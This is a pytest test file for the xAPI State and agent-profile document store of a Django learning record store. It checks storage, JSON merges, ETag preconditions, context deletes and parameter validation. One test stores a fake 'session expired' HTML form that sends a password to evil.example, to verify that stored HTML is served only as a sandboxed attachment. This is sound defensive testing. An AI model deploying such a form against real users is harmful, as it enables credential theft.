"""The state resource (Communication §2.2-2.3, §3.1): documents per activity, agent and registration, merges of
JSON, ETags and their preconditions, ids since a time, and deleting a whole context."""

import hashlib
import json
import uuid
from datetime import timedelta

from django.utils import timezone

import pytest

from lrs.models import StateDocument
from lrs.selectors import state_get
from lrs.services import state_post, state_put

pytestmark = pytest.mark.django_db

ACTIVITY = "https://partnerhub.test/activities/au-1"


def where(learner, **extra):
    return {"activityId": ACTIVITY, "agent": learner.agent, **extra}


def test_put_get_and_etag(xapi, learner):
    body = b'{"bookmark": "page-3"}'
    assert xapi.state(learner, "PUT", body=body, stateId="resume", **where(learner)).status_code == 204
    response = xapi.state(learner, "GET", stateId="resume", **where(learner))
    assert response.status_code == 200
    assert response.content == body
    assert response["Content-Type"] == "application/json"
    assert response["ETag"] == f'"{hashlib.sha1(body, usedforsecurity=False).hexdigest()}"'
    assert response["Last-Modified"]
    assert xapi.state(learner, "GET", stateId="other", **where(learner)).status_code == 404
    # Another registration is another document.
    assert xapi.state(learner, "GET", stateId="resume", **where(learner, registration=uuid.uuid4())).status_code == 404


def test_any_content_type_is_kept_as_bytes(xapi, learner):
    body = bytes(range(256))
    xapi.state(learner, "PUT", body=body, content_type="application/octet-stream", stateId="blob", **where(learner))
    response = xapi.state(learner, "GET", stateId="blob", **where(learner))
    assert response.content == body
    assert response["Content-Type"] == "application/octet-stream"


@pytest.mark.parametrize("resource", ["state", "agent_profile"])
def test_a_stored_html_document_is_never_a_page_on_the_hubs_origin(xapi, learner, resource):
    """A learner's credential could store HTML and have a cross-site form fetch it (``?method=GET``)."""
    page = b"<form action='https://evil.example/'>Your session expired: password <input name=p></form>"
    key, address = ("stateId", where(learner)) if resource == "state" else ("profileId", {"agent": learner.agent})
    store = getattr(xapi, resource)
    assert store(learner, "PUT", body=page, content_type="text/html", **{key: "page"}, **address).status_code == 204
    response = store(learner, "GET", **{key: "page"}, **address)
    assert response.content == page  # kept as sent
    assert response["Content-Disposition"] == "attachment"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"
    store(learner, "PUT", body=b'{"a": 1}', content_type="application/json", **{key: "json"}, **address)
    json_response = store(learner, "GET", **{key: "json"}, **address)
    assert json_response.json() == {"a": 1} and "Content-Disposition" not in json_response
    assert json_response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_post_merges_top_level_properties_of_json_objects(xapi, learner):
    xapi.state(learner, "PUT", body=b'{"x": "foo", "y": "bar"}', stateId="vars", **where(learner))
    assert (
        xapi.state(learner, "POST", body=b'{"x": "bash", "z": "faz"}', stateId="vars", **where(learner)).status_code
        == 204
    )
    assert xapi.state(learner, "GET", stateId="vars", **where(learner)).json() == {"x": "bash", "y": "bar", "z": "faz"}
    # POST to a new document stores it.
    xapi.state(learner, "POST", body=b'{"a": 1}', stateId="new", **where(learner))
    assert xapi.state(learner, "GET", stateId="new", **where(learner)).json() == {"a": 1}


def test_a_merge_that_is_not_json_objects_is_400_and_changes_nothing(xapi, learner):
    xapi.state(learner, "PUT", body=b'{"x": 1}', stateId="vars", **where(learner))
    xapi.state(learner, "PUT", body=b"plain", content_type="text/plain", stateId="text", **where(learner))
    assert xapi.state(learner, "POST", body=b"[1, 2]", stateId="vars", **where(learner)).status_code == 400
    assert xapi.state(learner, "POST", body=b"{broken", stateId="vars", **where(learner)).status_code == 400
    assert (
        xapi.state(learner, "POST", body=b"x", content_type="text/plain", stateId="vars", **where(learner)).status_code
        == 400
    )
    assert xapi.state(learner, "POST", body=b'{"y": 2}', stateId="text", **where(learner)).status_code == 400
    assert xapi.state(learner, "GET", stateId="vars", **where(learner)).json() == {"x": 1}
    assert xapi.state(learner, "GET", stateId="text", **where(learner)).content == b"plain"


def test_if_match_and_if_none_match(xapi, learner):
    assert (
        xapi.state(
            learner, "PUT", body=b"{}", stateId="s", headers={"HTTP_IF_MATCH": '"abc"'}, **where(learner)
        ).status_code
        == 412
    )  # no document yet
    assert not StateDocument.objects.exists()
    first = b'{"v": 1}'
    assert (
        xapi.state(
            learner, "PUT", body=first, stateId="s", headers={"HTTP_IF_NONE_MATCH": "*"}, **where(learner)
        ).status_code
        == 204
    )
    assert (
        xapi.state(
            learner, "PUT", body=b"{}", stateId="s", headers={"HTTP_IF_NONE_MATCH": "*"}, **where(learner)
        ).status_code
        == 412
    )
    etag = xapi.state(learner, "GET", stateId="s", **where(learner))["ETag"]
    second = b'{"v": 2}'
    assert (
        xapi.state(
            learner, "PUT", body=second, stateId="s", headers={"HTTP_IF_MATCH": etag}, **where(learner)
        ).status_code
        == 204
    )
    # The first reader's ETag is stale now: its write and its delete are refused, nothing changes.
    for method in ("PUT", "POST"):
        response = xapi.state(
            learner, method, body=b'{"v": 3}', stateId="s", headers={"HTTP_IF_MATCH": etag}, **where(learner)
        )
        assert response.status_code == 412
    assert (
        xapi.state(learner, "DELETE", stateId="s", headers={"HTTP_IF_MATCH": etag}, **where(learner)).status_code
        == 412
    )
    assert xapi.state(learner, "GET", stateId="s", **where(learner)).content == second
    # Without preconditions the state resource accepts writes (Communication §3.1).
    assert xapi.state(learner, "PUT", body=b'{"v": 4}', stateId="s", **where(learner)).status_code == 204


def test_ids_since_and_delete_of_a_context(xapi, learner):
    registration = uuid.uuid4()
    for state_id in ("a", "b"):
        xapi.state(learner, "PUT", body=b"{}", stateId=state_id, **where(learner))
    xapi.state(learner, "PUT", body=b"{}", stateId="c", **where(learner, registration=registration))
    StateDocument.objects.filter(state_id="a").update(updated=timezone.now() - timedelta(hours=1))
    assert xapi.state(learner, "GET", **where(learner)).json() == ["a", "b", "c"]
    assert xapi.state(learner, "GET", **where(learner, registration=registration)).json() == ["c"]
    since = (timezone.now() - timedelta(minutes=30)).isoformat()
    response = xapi.state(learner, "GET", since=since, **where(learner))
    assert response.json() == ["b", "c"]
    assert response["Last-Modified"]
    assert xapi.state(learner, "DELETE", **where(learner, registration=registration)).status_code == 204
    assert xapi.state(learner, "GET", **where(learner)).json() == ["a", "b"]
    assert xapi.state(learner, "DELETE", stateId="a", **where(learner)).status_code == 204
    assert xapi.state(learner, "DELETE", **where(learner)).status_code == 204
    assert not StateDocument.objects.exists()


@pytest.mark.parametrize(
    "params",
    [
        {"agent": {"mbox": "mailto:x@example.test"}},  # no activityId
        {"activityId": ACTIVITY},  # no agent
        {"activityId": "not an iri", "agent": {"mbox": "mailto:x@example.test"}},
        {"activityId": ACTIVITY, "agent": {"name": "no ifi"}},
        {"activityId": ACTIVITY, "agent": {"mbox": "mailto:x@example.test"}, "registration": "nope"},
        {"activityId": ACTIVITY, "agent": {"mbox": "mailto:x@example.test"}, "since": "later"},
        {"activityId": ACTIVITY, "agent": {"mbox": "mailto:x@example.test"}, "StateId": "x"},
    ],
)
def test_bad_parameters_are_400(xapi, params):
    from lrs.factories import client_credential

    admin = client_credential(scopes=["all"])
    assert xapi.state(admin, "GET", **params).status_code == 400
    assert xapi.state(admin, "PUT", body=b"{}", stateId="s", **params).status_code == 400
    assert not StateDocument.objects.exists()


def test_the_services_the_hub_uses_for_launch_data(learner):
    launch_data = {"contextTemplate": {"registration": str(uuid.uuid4())}, "launchMode": "Normal"}
    registration = uuid.uuid4()
    document = state_put(
        activity_id=ACTIVITY,
        agent=learner.agent,
        registration=registration,
        state_id="LMS.LaunchData",
        content=json.dumps(launch_data).encode(),
        content_type="application/json",
    )
    assert document.etag == hashlib.sha1(bytes(document.content), usedforsecurity=False).hexdigest()
    state_post(
        activity_id=ACTIVITY,
        agent=learner.agent,
        registration=registration,
        state_id="LMS.LaunchData",
        content=b'{"returnURL": "https://hub.test/back"}',
        content_type="application/json",
    )
    found = state_get(activity_id=ACTIVITY, agent=learner.agent, registration=registration, state_id="LMS.LaunchData")
    assert json.loads(bytes(found.content)) == {**launch_data, "returnURL": "https://hub.test/back"}
